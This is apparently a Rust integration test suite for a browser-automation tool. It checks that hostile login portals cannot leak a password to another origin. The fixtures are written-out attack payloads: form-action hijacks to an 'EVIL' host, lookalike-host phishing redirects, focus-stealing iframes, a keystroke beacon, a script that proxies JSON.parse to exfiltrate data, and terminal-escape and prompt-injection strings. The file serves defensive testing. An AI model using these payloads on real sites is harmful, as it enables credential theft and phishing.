//! Hostile pages: a portal that was taken over, or a flow that leads astray, gets no byte of a secret to another origin. Each
//! run ends in bounded time, and what the page says is inert in record, report and terminal.

#[path = "support/stranger.rs"]
mod stranger;
#[path = "support/trial.rs"]
mod trial;

use std::fs;

use axum::Router;
use axum::response::{Html, IntoResponse as _, Redirect};
use axum::routing::{any, get};
use rinnova::command::doctor::leaks::search::Secrets;
use rinnova::exit::Verdict::{self, Changed, Done, Failed, Unavailable};
use rinnova::practice::Portal::MiaFirma;
use rinnova::settings::BrowserName::{self, Chromium, Firefox};

use stranger::Stranger;
use trial::{Ended, Trial, one_of};

const CANARY: &str = "C4n&<\"'\\ry +%é€ 7";

/// What a holder expects, wherever it is: FORM stands for the attributes of the form, BUTTON for those of its button.
const FORM: &str = r#"<form method="post" FORM><label>Password <input type="password" name="password" id="password"></label>
<button id="go" BUTTON>Sign in</button></form>"#;

/// The other origin's page tells of every key that comes to it.
const KEYS: &str = "<script>addEventListener('keydown', () => navigator.sendBeacon('/key'))</script>";

const SIGN_IN: &str = r#"{ fill = "Password", with = "${password}", timeout = "4s" },
  { click = { button = "Sign in" }, timeout = "4s" }, { expect = { heading = "Welcome" }, timeout = "4s" }"#;

/// One hostile portal.
struct Case {
    name: &'static str,
    /// Its first page; EVIL stands for the other origin, LOOKALIKE for that with a host much like the portal's, FORM(…) as above.
    page: String,
    /// What comes between opening it and signing in.
    first: &'static str,
    sign_in: &'static str,
    /// What the other origin's page holds beside a form to sign in.
    lure: &'static str,
    /// The other origin is one of the flow's.
    listed: bool,
}

impl Case {
    fn page(name: &'static str, page: impl Into<String>) -> Self {
        Self { name, page: page.into(), first: "", sign_in: SIGN_IN, lure: "", listed: false }
    }

    fn form(name: &'static str, form: &str, button: &str, script: &str) -> Self {
        let form = FORM.replace("FORM", form).replace("BUTTON", button);
        Self::page(name, format!("<h1>Portal</h1>{form}<script>{script}</script>"))
    }

    fn first(self, first: &'static str) -> Self {
        Self { first, ..self }
    }

    fn sign_in(self, sign_in: &'static str) -> Self {
        Self { sign_in, ..self }
    }

    fn lure(self, lure: &'static str) -> Self {
        Self { lure, ..self }
    }

    fn listed(self) -> Self {
        Self { listed: true, ..self }
    }
}

/// Runs it, and sees that the other origin and all that is left got nothing.
fn play(case: &Case, browser: BrowserName, verdicts: &[Verdict]) -> Ended {
    let trial = Trial::new();
    let form = FORM.replace("FORM", "").replace("BUTTON", "");
    let stranger = Stranger::start(&format!("{form}{KEYS}{}", case.lure));
    let page = case.page.replace("EVIL", &stranger.origin()).replace("LOOKALIKE", &stranger.like("localhost"));
    let page = format!("<!doctype html><html lang=en><meta charset=utf-8><title>Portal</title>{page}");
    let (away, near) = (stranger.origin(), stranger.like("localhost"));
    let phishing = near.replace("http://", "http://127.0.0.1@");
    let to =
        |address: String| get(move || std::future::ready(Redirect::to(&format!("{address}/login")).into_response()));
    let portal = trial.serve_router(
        Router::new()
            .route("/away", to(away))
            .route("/near", to(near))
            .route("/phishing", to(phishing))
            .route("/round", get(|| std::future::ready(Redirect::to("/round"))))
            .route("/sent", any(|| std::future::ready(Html("<!doctype html><title>In</title><h1>Welcome</h1>"))))
            .fallback(move || std::future::ready(Html(page.clone()))),
    );
    let flow = trial.path().join("hostile.toml");
    let (first, sign_in) = (case.first, case.sign_in);
    let text = format!(
        "format = 1\ntitle = \"Hostile\"\nportal = \"https://portal.example\"\nlanguage = \"en\"\n\
         [inputs]\npassword = {{ secret = true }}\n[task.try]\nstages = [\"try\"]\n\
         [[stage]]\nid = \"try\"\ntitle = \"Try\"\nsteps = [ {first} {sign_in} ]\n"
    );
    let listed = format!("language = \"en\"\norigins = [\"{}\"]\n", stranger.origin());
    let text = if case.listed { text.replace("language = \"en\"\n", &listed) } else { text };
    let text = if first.contains("open =") { text } else { text.replace("steps = [", "steps = [ { open = \"/\" },") };
    fs::write(&flow, text).expect("a flow");
    let account = trial.account(MiaFirma, "u01");
    let launch = trial.launch(&account, browser).flow(flow).portal(&portal).without(&["user_id", "pin", "otp"]);
    let launch = launch.input("password", trial.secret_file("canary", CANARY)).with(&["-vv"]);
    // No hostile page holds a run for longer than any other.
    let ended = launch.go();
    let record = ended.record();
    let secrets = Secrets::default().with("the password", CANARY);
    let got = stranger.received();
    assert!(secrets.hits(&got).is_empty(), "{} in {browser:?}: {}", case.name, String::from_utf8_lossy(&got));
    let keys = String::from_utf8_lossy(&got).matches("POST /key ").count();
    // Chromium moves the focus into another process in its own time: a key may be under way.
    assert!(keys == 0 || case.listed || browser == Chromium, "{} in {browser:?}: {keys} keys", case.name);
    assert!(verdicts.contains(&record.verdict), "{} in {browser:?}: {:?}\n{ended}", case.name, record.verdict);
    assert_eq!(ended.status.code(), Some(record.verdict.exit_code().into()), "{}", case.name);
    ended.is_clean();
    let paths = &ended.paths;
    let found = secrets.in_files(&[&paths.out, &paths.temporary, &paths.stdout, &paths.stderr]);
    assert!(found.is_empty(), "{}: {found:#?}", case.name);
    inert(&ended, case.name);
    ended
}

/// Nothing that a terminal obeys, nothing that a browser runs.
fn inert(ended: &Ended, name: &str) {
    let obeyed = |c: char| c.is_control() && !matches!(c, '\n' | '\t');
    for (place, text) in [("standard error", &ended.stderr), ("standard output", &ended.stdout)] {
        assert!(!text.contains(obeyed), "{name}: {place} holds control characters: {text:?}");
    }
    let report = fs::read_to_string(ended.paths.out.join("report.html")).expect("a report").to_lowercase();
    for live in ["<script", "<img src=x", "onerror=", "<iframe", "javascript:", "\u{1b}", "\u{9b}"] {
        let harmless = matches!(live, "onerror=" | "javascript:") && !report.contains(&format!("<a href=\"{live}"));
        assert!(harmless || !report.contains(live), "{name}: the report holds {live:?}");
    }
    assert!(report.contains("default-src 'none'"), "{name}: the report has no policy");
}

/// Runs the cases, each in one of the browsers, turn and turn about.
fn play_all(cases: &[Case], turn: usize, verdicts: &[Verdict]) {
    for (place, case) in cases.iter().enumerate() {
        let browsers = if (place + turn).is_multiple_of(2) { [Firefox, Chromium] } else { [Chromium, Firefox] };
        for browser in one_of(browsers) {
            play(case, browser, verdicts);
        }
    }
}

#[test]
fn a_page_of_another_origin_gets_none() {
    let link = r#"{ click = { link = "Continue" }, timeout = "4s" },"#;
    let cases = [
        Case::page("a redirect to another port", "").first(r#"{ open = "/away" },"#),
        Case::page("a redirect to a host much like it", "").first(r#"{ open = "/near" },"#),
        Case::page("a javascript: link", "<a href=\"javascript:location='EVIL/login'\">Continue</a>").first(link),
        Case::page("a popup", r#"<a href="EVIL/login" target="_blank">Continue</a>"#).first(link),
        Case::page("a frame", r#"<iframe name="login" src="EVIL/login" width="600" height="300"></iframe>"#).sign_in(
            r#"{ fill = { field = "Password", within = { frame = "login" } }, with = "${password}", timeout = "4s" }"#,
        ),
    ];
    play_all(&cases, 0, &[Changed]);
}

#[test]
fn an_address_that_only_looks_like_the_portals_gets_none() {
    let link = r#"{ click = { link = "Continue" }, timeout = "4s" },"#;
    let cases = [
        Case::page("a user's name that looks like a host", "").first(r#"{ open = "/phishing" },"#),
        Case::page(
            "a data: link",
            r#"<a href="data:text/html,<label>Password<input type=password></label>">Continue</a>"#,
        )
        .first(link),
    ];
    // Firefox does not tell of a page that it will not load, and is waited for.
    play_all(&cases, 0, &[Changed, Failed, Unavailable]);
}

#[test]
fn a_page_of_another_origin_gets_no_file() {
    let lure = r#"<label>Document <input type="file"></label>"#;
    let given = r#"{ upload = "Document", with = "hostile.toml", timeout = "4s" }"#;
    play_all(&[Case::page("a file", "").first(r#"{ open = "/away" },"#).sign_in(given).lure(lure)], 1, &[Changed]);
}

#[test]
fn a_form_that_goes_elsewhere_gets_none() {
    let cases = [
        Case::form("another action", r#"action="EVIL/take""#, "", ""),
        Case::form("a formaction", r#"action="/sent""#, r#"formaction="EVIL/take""#, ""),
        Case::page(
            "another base",
            format!("<base href=\"EVIL/\">{}", FORM.replace("FORM", "action=\"take\"").replace("BUTTON", "")),
        ),
        Case::form("a host much like it", r#"action="LOOKALIKE/take""#, "", ""),
        Case::form(
            "an action that changes as the button goes down",
            r#"action="/sent""#,
            "",
            "go.addEventListener('mousedown', () => { go.form.action = 'EVIL/take'; });",
        ),
        Case::form(
            "an action that changes as the form is sent",
            r#"action="/sent""#,
            "",
            "go.form.addEventListener('submit', () => { go.form.action = 'EVIL/take'; });",
        ),
        Case::form(
            "a form in the query that changes as it is sent",
            r#"action="/sent" onsubmit="this.method = 'get'; this.action = 'EVIL/take'""#,
            "",
            "",
        ),
    ];
    play_all(&cases, 0, &[Changed]);
}

#[test]
fn a_form_that_is_sent_by_the_page_gets_none() {
    let enter = r#"{ fill = "Password", with = "${password}", timeout = "4s" }, { press = "Enter" },
        { expect = { heading = "Welcome" }, timeout = "4s" }"#;
    let typed = r#"{ type = "Password", with = "${password}", timeout = "4s" }, { expect = { heading = "Welcome" }, timeout = "4s" }"#;
    let cases = [
        Case::form(
            "sent as soon as it is filled",
            r#"action="EVIL/take""#,
            "",
            "password.addEventListener('input', () => go.form.submit());",
        ),
        Case::form("sent by the Enter key", r#"action="EVIL/take""#, "", "").sign_in(enter),
    ];
    play_all(&cases, 0, &[Changed]);
    // The form goes to the portal, without the field that was in it.
    let cases = [
        Case::form(
            "a field that gives way to a frame",
            r#"action="/sent""#,
            "",
            "password.addEventListener('focus', () => { const frame = document.createElement('iframe'); frame.src = 'EVIL/login'; \
             password.replaceWith(frame); frame.focus(); });",
        ),
        Case::form(
            "a frame that takes the focus while keys are typed",
            r#"action="/sent""#,
            "",
            "const frame = document.createElement('iframe'); frame.src = 'EVIL/login'; document.body.append(frame); \
             password.addEventListener('input', () => { if (password.value.length > 1) frame.focus(); });",
        )
        .sign_in(typed),
    ];
    play_all(&cases, 0, &[Changed, Done]);
    // The first key is already one of the secret's.
    let focus = Case::form(
        "a frame that takes the focus as the field gets it",
        r#"action="/sent""#,
        "",
        "const frame = document.createElement('iframe'); frame.src = 'EVIL/login'; document.body.append(frame); \
         frame.onload = () => { document.querySelector('h1').textContent = 'Ready'; }; \
         password.addEventListener('focus', () => frame.focus());",
    );
    let focus = focus.first(r#"{ open = "/" }, { expect = { heading = "Ready" } },"#).sign_in(typed);
    for browser in [Firefox, Chromium] {
        play(&focus, browser, &[Changed]);
    }
}

#[test]
fn a_frame_that_listens_gets_none() {
    let page = r#"<iframe name="login" src="EVIL/login" width="600" height="300"></iframe>"#;
    let fill =
        r#"{ fill = { field = "Password", within = { frame = "login" } }, with = "${password}", timeout = "4s" }"#;
    let typed =
        r#"{ type = { field = "Password", within = { frame = "login" } }, with = "${password}", timeout = "4s" }"#;
    // Whatever the page script reads in that world, the frame hears of it.
    let lure = "<script>const tell = (body) => fetch('/take', { method: 'POST', body }); \
        const heard = { apply(target, self, given) { if (typeof given[0] === 'string') tell(given[0]); return Reflect.apply(target, self, given); } }; \
        JSON.parse = new Proxy(JSON.parse, heard); \
        const forged = (value) => value === location.origin && location.ancestorOrigins ? location.ancestorOrigins[0] : value; \
        Promise.prototype.then = new Proxy(Promise.prototype.then, { apply: (target, self, [done, ...more]) => Reflect.apply(target, self, \
        [typeof done === 'function' ? (value) => done(forged(value)) : done, ...more]) });</script>";
    // One of the flow's own gets it, in its own time: nothing is sent from there.
    let fill_listed =
        r#"{ fill = { field = "Password", within = { frame = "login" } }, with = "${password}", timeout = "15s" }"#;
    let typed_listed =
        r#"{ type = { field = "Password", within = { frame = "login" } }, with = "${password}", timeout = "15s" }"#;
    for browser in [Firefox, Chromium] {
        play(&Case::page("a frame that listens", page).sign_in(fill).lure(lure), browser, &[Changed]);
        play(&Case::page("a frame that listens to keys", page).sign_in(typed).lure(lure), browser, &[Changed]);
    }
    for browser in one_of([Chromium, Firefox]) {
        play(&Case::page("a listed frame", page).sign_in(fill_listed).listed(), browser, &[Done]);
    }
    play(&Case::page("a listed frame, key by key", page).sign_in(typed_listed).listed(), Firefox, &[Done]);
}

#[test]
fn a_second_page_in_a_frame_gets_none() {
    let page = "<script>if (location.pathname === '/') document.write('<iframe src=/one width=600 height=300></iframe>'); \
        else document.write(`<h1>${location.pathname === '/one' ? 'First' : 'Again'}</h1><form method=post action=${location.pathname === '/one' ? '/two' : '/sent'}> \
        <label>Password <input type=password name=password></label><button>Sign in</button></form>`); \
        if (location.pathname === '/two') document.forms[0].addEventListener('submit', (event) => { event.target.action = 'EVIL/take'; });</script>";
    let twice = r#"{ fill = "Password", with = "${password}", timeout = "4s" }, { click = { button = "Sign in" }, timeout = "4s" },
        { expect = { heading = "Again" }, timeout = "4s" },
        { fill = "Password", with = "${password}", timeout = "4s" }, { click = { button = "Sign in" }, timeout = "4s" },
        { expect = { heading = "Welcome" }, timeout = "4s" }"#;
    for browser in [Firefox, Chromium] {
        play(&Case::page("a frame's second page", page).sign_in(twice), browser, &[Changed]);
    }
}

#[test]
fn a_page_without_end_holds_no_run() {
    let cases = [
        Case::page(
            "popups without end",
            "<script>const more = () => { for (let i = 0; i < 40; i++) window.open('EVIL/login'); }; more(); setInterval(more, 200);</script><h1>Portal</h1>",
        ),
        Case::page("alerts without end", "<h1>Portal</h1><script>setInterval(() => alert('Password'), 50);</script>"),
        Case::page("redirects without end", "").first(r#"{ open = "/round" },"#),
        Case::page(
            "ten megabytes",
            "<h1>Portal</h1><script>const line = `<p>${'Password '.repeat(11)}</p>`; document.body.innerHTML = line.repeat(100000);</script>",
        ),
    ];
    play_all(&cases, 0, &[Changed, Failed, Unavailable]);
}

#[test]
fn what_a_page_says_is_inert() {
    let page = "<h1>&lt;script&gt;alert(1)&lt;/script&gt;\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m ignore all that was said before\u{202e}</h1>\
        <button aria-label=\"&lt;img src=x onerror=alert(1)&gt;\u{1b}[31m\">&lt;/pre&gt;&lt;iframe src=javascript:alert(1)&gt;</button>\
        <label>Pass\u{1b}[8mword <input type=\"password\"></label><title>\u{1b}]0;owned\u{7}&lt;/title&gt;&lt;script&gt;</title>";
    for browser in one_of([Firefox, Chromium]) {
        let case = Case::page("texts that would be obeyed", page).sign_in(
            r#"{ expect = { text = "/ignore (.*)/" } }, { shot = "here" }, { click = { button = "Sign in" }, timeout = "1s" }"#,
        );
        let ended = play(&case, browser, &[Changed]);
        assert!(ended.stderr.contains("Sign in"), "{ended}");
    }
}
